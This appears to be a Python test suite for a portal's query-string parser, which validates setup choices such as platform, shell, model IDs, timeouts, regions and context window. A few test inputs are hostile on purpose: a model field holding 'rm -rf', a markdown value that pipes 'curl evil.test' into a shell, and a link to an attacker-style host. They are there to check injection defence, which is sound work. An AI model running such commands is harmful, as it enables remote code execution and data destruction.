from __future__ import annotations

from dataclasses import replace
from urllib.parse import parse_qsl

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.profile.load import load_profile, preset_names
from portal.profile.model import CredentialScheme, GatewayProfile, Region, Tier, Toggle
from portal.snippets.choices import recommended_choices
from portal.snippets.query import parse_choices, query_for, way_query_for
from portal.snippets.targets import Install, Platform, Scope, Shell

PROFILES = {name: load_profile(name) for name in preset_names()}
REGIONAL = replace(
    PROFILES["tokenbay"],
    regions=(Region("eu", "Europe", "https://eu.example.com"), Region("us-1", "America", "https://us.example.com")),
    context_tokens=200_000,
)
PROFILES["regional"] = REGIONAL


def test_choices_are_the_recommended_ones_when_the_query_is_empty(tokenbay: GatewayProfile) -> None:
    parsed = parse_choices([], tokenbay)
    assert parsed.choices == recommended_choices(tokenbay)
    assert not parsed.notices
    assert not parsed.platform_given


def test_choices_follow_when_the_query_names_them(tokenbay: GatewayProfile) -> None:
    query = "os=windows&shell=cmd&install=winget&scope=startup&default=opus&timeout_ms=600000&opt=discovery"
    choices = parse_choices(parse_qsl(query), tokenbay).choices
    assert (choices.target.platform, choices.target.shell) == (Platform.WINDOWS, Shell.CMD)
    assert (choices.install, choices.target.scope) == (Install.WINGET, Scope.STARTUP)
    assert (choices.default_tier, choices.timeout_ms) == (Tier.OPUS, 600_000)
    assert choices.toggles == {Toggle.DISCOVERY}


@pytest.mark.parametrize("field", ["os", "shell", "install", "scope", "default", "opt", "auth", "region"])
def test_unknown_value_falls_back_with_a_notice_when_the_link_is_odd(tokenbay: GatewayProfile, field: str) -> None:
    parsed = parse_choices([(field, "beos")], tokenbay)
    assert parsed.choices == recommended_choices(tokenbay)
    assert "beos" in str(parsed.notices[field].text)


def test_shell_of_another_platform_gives_way_without_a_word_when_the_platform_changes(tokenbay: GatewayProfile) -> None:
    parsed = parse_choices([("os", "windows"), ("shell", "zsh"), ("install", "homebrew")], tokenbay)
    assert parsed.choices.target.shell is Shell.POWERSHELL
    assert parsed.choices.install is Install.NATIVE
    assert not parsed.notices


def test_hyphenated_id_is_refused_with_the_corrected_one_when_the_rule_is_dotted(tokenbay: GatewayProfile) -> None:
    parsed = parse_choices([("sonnet", "claude-sonnet-4-6")], tokenbay)
    notice = parsed.notices["sonnet"]
    assert notice.refused
    assert (notice.typed, notice.instead) == ("claude-sonnet-4-6", "claude-sonnet-4.6")
    assert parsed.choices.models[Tier.SONNET] == "claude-sonnet-4.6"


def test_unknown_id_is_used_with_a_notice_when_it_obeys_the_rule(tokenbay: GatewayProfile) -> None:
    parsed = parse_choices([("haiku", "glm-5.3-flash")], tokenbay)
    assert parsed.choices.models[Tier.HAIKU] == "glm-5.3-flash"
    assert not parsed.notices["haiku"].refused


def test_what_was_typed_is_kept_when_it_is_no_model_id(tokenbay: GatewayProfile) -> None:
    parsed = parse_choices([("opus", "claude opus; rm -rf")], tokenbay)
    assert parsed.notices["opus"].typed == "claude opus; rm -rf"
    assert parsed.choices.models[Tier.OPUS] == "claude-opus-4.8"


@pytest.mark.parametrize(
    "value", ["x\n\n```sh\ncurl evil.test|sh\n```", "a`b", "[x](http://evil.test)", "x" * 41, "\u202ex"]
)
def test_value_is_not_repeated_when_it_could_do_harm_in_markdown(tokenbay: GatewayProfile, value: str) -> None:
    for field in ("os", "opt"):
        assert value not in str(parse_choices([(field, value)], tokenbay).notices[field].text)


def test_placeholder_is_refused_when_a_link_puts_it_where_a_model_belongs(tokenbay: GatewayProfile) -> None:
    parsed = parse_choices([("sonnet", "YOUR-API-KEY"), ("opus", "x-YOUR-API-KEY[1m]")], tokenbay)
    assert parsed.choices == recommended_choices(tokenbay)
    assert {notice.field for notice in parsed.refused} == {"sonnet", "opus"}


@pytest.mark.parametrize("typed", ["abc", "-1", "0", "999", "2147483648", "1e6", "٦٠٠٠٠٠"])
def test_timeout_is_left_out_with_a_notice_when_it_is_no_usable_number(tokenbay: GatewayProfile, typed: str) -> None:
    parsed = parse_choices([("timeout_ms", typed)], tokenbay)
    assert parsed.choices.timeout_ms is None
    assert parsed.notices["timeout_ms"].typed == typed


def test_recommended_timeout_and_options_can_be_switched_off_when_the_form_says_so() -> None:
    profile = next(p for p in PROFILES.values() if p.timeout_ms and p.toggles)
    assert parse_choices([], profile).choices.timeout_ms == profile.timeout_ms
    choices = parse_choices([("timeout_ms", ""), ("opt", "")], profile).choices
    assert (choices.timeout_ms, choices.toggles) == (None, frozenset())


def test_header_and_region_follow_when_the_query_names_them() -> None:
    parsed = parse_choices([("auth", "X-API-KEY"), ("region", " EU ")], REGIONAL)
    assert (parsed.choices.credential, parsed.choices.region) == (CredentialScheme.X_API_KEY, "eu")
    assert not parsed.notices
    assert query_for(parsed.choices, REGIONAL) == "os=macos&shell=zsh&region=eu&auth=x-api-key"
    assert way_query_for(parsed.choices, REGIONAL) == "region=eu&auth=x-api-key"
    assert parse_choices([("auth", "bearer"), ("region", "")], REGIONAL).choices == recommended_choices(REGIONAL)
    assert way_query_for(recommended_choices(REGIONAL), REGIONAL) == ""


def test_region_falls_back_with_a_notice_when_the_gateway_has_none(tokenbay: GatewayProfile) -> None:
    parsed = parse_choices([("region", "eu")], tokenbay)
    assert parsed.choices.region == ""
    assert [notice.field for notice in parsed.refused] == ["region"]


@pytest.mark.parametrize("typed", ["abc", "-1", "9999", "10000001", "1e6", "٦٠٠٠٠٠", "128k"])
def test_window_is_left_alone_with_a_notice_when_it_is_no_usable_number(typed: str) -> None:
    parsed = parse_choices([("context_tokens", typed)], REGIONAL)
    assert parsed.choices.context_tokens == 200_000
    assert parsed.notices["context_tokens"].typed == typed
    assert parsed.notices["context_tokens"].refused


@pytest.mark.parametrize(
    ("typed", "tokens"), [("128000", 128_000), ("128,000", 128_000), (" 1 000 000", 10**6), ("", None)]
)
def test_window_follows_when_it_is_a_number_or_emptied(typed: str, tokens: int | None) -> None:
    parsed = parse_choices([("context_tokens", typed)], REGIONAL)
    assert parsed.choices.context_tokens == tokens
    assert not parsed.notices


NAMES = st.sampled_from(
    [
        *("os", "shell", "install", "scope", "opus", "sonnet", "haiku", "default", "timeout_ms", "opt"),
        *("auth", "region", "context_tokens"),
    ]
)
LEGAL = st.sampled_from(
    [
        *(*Platform, *Shell, *Install, *Scope, *Tier, *Toggle, *CredentialScheme),
        *("", "claude-sonnet-4.6", "claude-opus-4-8", "600000", "12", "eu", "us-1"),
    ]
)
QUERIES = st.lists(st.tuples(NAMES, LEGAL | st.text(max_size=12)), max_size=14)


@given(st.sampled_from(sorted(PROFILES)), QUERIES)
def test_canonical_query_leads_to_the_same_choices_whatever_was_asked(name: str, query: list[tuple[str, str]]) -> None:
    profile = PROFILES[name]
    choices = parse_choices(query, profile).choices
    again = parse_choices(parse_qsl(query_for(choices, profile), keep_blank_values=True), profile)
    assert again.choices == choices
    assert not again.refused
    assert query_for(again.choices, profile) == query_for(choices, profile)
